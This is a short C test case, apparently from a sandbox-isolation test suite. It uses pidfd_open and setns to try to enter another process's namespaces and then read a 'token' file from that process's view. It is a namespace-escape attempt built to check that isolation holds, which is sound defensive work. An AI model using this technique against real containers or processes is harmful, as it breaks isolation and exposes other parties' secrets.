/* Into all namespaces of a process outside at once, by its pidfd. */
#include "../attack.h"
int main(void)
{
	int pidfd = (int)syscall(SYS_pidfd_open, HERMIT, 0);
	int flags = geteuid() == 0 ? CLONE_NEWNS : CLONE_NEWUSER | CLONE_NEWNS;
	return setns(pidfd, flags) < 0 ? 1 : show_file(in(from_arena("A_HERMITAGE"), "token"));
}
